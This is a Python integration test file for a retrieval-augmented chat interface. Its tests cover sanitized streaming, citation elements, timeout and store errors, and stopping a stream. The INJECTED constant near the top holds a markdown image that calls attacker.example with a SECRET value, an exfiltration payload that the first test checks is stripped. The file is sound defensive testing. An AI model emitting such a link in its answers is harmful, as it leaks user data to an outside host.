@@ -1,0 +1,145 @@
+"""Answering in the chat: steps, sanitized streaming, citations, errors and stop."""
+
+from __future__ import annotations
+
+import asyncio
+import re
+from collections.abc import AsyncIterator, Iterator
+from typing import Any
+
+import httpx
+import openai
+import pytest
+from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
+from langchain_core.messages import AIMessage, AIMessageChunk
+from langchain_core.outputs import ChatGenerationChunk
+
+from chains.memory import ChatMemory
+from chains.options import SearchOptions
+from chains.rag import build_rag_chain
+from chains.retriever import PassageRetriever
+from core.store import KnowledgeBase
+from tests.ui.conftest import RecordingEmitter
+from ui.conversation import answer_question
+from ui.resources import AppResources
+
+pytestmark = pytest.mark.integration
+
+INJECTED = (
+    "Apples [1]. ![tracker](https://attacker.example/c?q=SECRET) and [see](https://x.example)"
+)
+
+
+def resources(kb: KnowledgeBase, model: Any) -> AppResources:
+    chain = build_rag_chain(PassageRetriever(kb), model)
+    return AppResources(settings=kb.settings, kb=kb, chain=chain, model_name="fake")
+
+
+def final_message(events: RecordingEmitter) -> dict[str, Any]:
+    messages = [
+        m
+        for m in events.of("new_message") + events.of("update_message")
+        if m.get("type") == "assistant_message" and not m.get("isError")
+    ]
+    return messages[-1]
+
+
+class PacedModel(GenericFakeChatModel):
+    """A fake model that streams at a human-visible pace (so updates are not coalesced)."""
+
+    async def _astream(self, *args: Any, **kwargs: Any) -> AsyncIterator[ChatGenerationChunk]:
+        async for chunk in super()._astream(*args, **kwargs):
+            await asyncio.sleep(0.05)
+            yield chunk
+
+
+async def test_answer_streams_sanitized_with_cited_elements(
+    seeded_kb: KnowledgeBase, chainlit_events: RecordingEmitter
+) -> None:
+    model = PacedModel(messages=iter([AIMessage(INJECTED)]))
+    memory = ChatMemory()
+    await answer_question(
+        resources(seeded_kb, model), "alpha text about apples", memory, SearchOptions(k=3)
+    )
+    streamed = chainlit_events.streamed_texts()
+    assert len(streamed) > 3
+    for text in streamed:  # no partial answer ever holds an active image or link
+        assert not re.search(r"!?\[[^\]]*\]\([^)]*\)", text), text
+    final = final_message(chainlit_events)["output"]
+    assert final == "Apples [1]. [image removed: tracker] and see"
+    elements = chainlit_events.of("element")
+    assert [e["name"] for e in elements] == ["[1]"]
+    steps = [s for s in chainlit_events.of("update_message") if s.get("type") == "retrieval"]
+    assert "Found 3 passages" in steps[-1]["output"]
+    assert len(memory) == 1
+
+
+class FailingModel(GenericFakeChatModel):
+    """Streams a few tokens, then fails as a timed-out OpenAI call would."""
+
+    def _stream(self, *args: Any, **kwargs: Any) -> Iterator[ChatGenerationChunk]:
+        raise NotImplementedError
+
+    async def _astream(self, *args: Any, **kwargs: Any) -> AsyncIterator[ChatGenerationChunk]:
+        yield ChatGenerationChunk(message=AIMessageChunk(content="Partial"))
+        raise openai.APITimeoutError(request=httpx.Request("POST", "http://model/v1"))
+
+
+async def test_model_failure_becomes_a_message_and_the_chat_goes_on(
+    seeded_kb: KnowledgeBase, chainlit_events: RecordingEmitter
+) -> None:
+    memory = ChatMemory()
+    model = FailingModel(messages=iter([]))
+    await answer_question(resources(seeded_kb, model), "alpha", memory, SearchOptions())
+    errors = [m["output"] for m in chainlit_events.of("new_message") if m.get("isError")]
+    assert errors == ["The language model did not answer in time. Please try again in a moment."]
+    assert "(the answer was cut off)" in final_message(chainlit_events)["output"]
+    assert len(memory) == 0
+
+    good = GenericFakeChatModel(messages=iter([AIMessage("Fine now [1].")]))
+    await answer_question(resources(seeded_kb, good), "alpha", memory, SearchOptions())
+    assert final_message(chainlit_events)["output"] == "Fine now [1]."
+
+
+async def test_store_failure_becomes_a_message(
+    seeded_kb: KnowledgeBase, chainlit_events: RecordingEmitter, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from pymilvus import MilvusException
+
+    async def down(*args: Any, **kwargs: Any) -> Any:
+        raise MilvusException(message="connection refused")
+
+    monkeypatch.setattr(seeded_kb.store, "asimilarity_search_with_score", down)
+    model = GenericFakeChatModel(messages=iter([AIMessage("unused")]))
+    await answer_question(resources(seeded_kb, model), "alpha", ChatMemory(), SearchOptions())
+    errors = [m["output"] for m in chainlit_events.of("new_message") if m.get("isError")]
+    assert len(errors) == 1 and "knowledge base could not be searched" in errors[0]
+    failed_steps = [s for s in chainlit_events.of("update_message") if s.get("isError")]
+    assert failed_steps and failed_steps[-1]["output"].startswith("Failed:")
+
+
+class SlowModel(GenericFakeChatModel):
+    async def _astream(self, *args: Any, **kwargs: Any) -> AsyncIterator[ChatGenerationChunk]:
+        for word in ["One", " two", " three"]:
+            yield ChatGenerationChunk(message=AIMessageChunk(content=word))
+        await asyncio.sleep(30)
+        yield ChatGenerationChunk(message=AIMessageChunk(content=" never"))
+
+
+async def test_stop_ends_the_stream_cleanly(
+    seeded_kb: KnowledgeBase, chainlit_events: RecordingEmitter
+) -> None:
+    memory = ChatMemory()
+    task = asyncio.create_task(
+        answer_question(
+            resources(seeded_kb, SlowModel(messages=iter([]))), "alpha", memory, SearchOptions()
+        )
+    )
+    await asyncio.wait_for(chainlit_events.streaming.wait(), timeout=30)
+    await asyncio.sleep(0.1)
+    task.cancel()
+    with pytest.raises(asyncio.CancelledError):
+        await task
+    final = final_message(chainlit_events)["output"]
+    assert final.startswith("One two three") and final.endswith("*(stopped)*")
+    assert len(memory) == 0
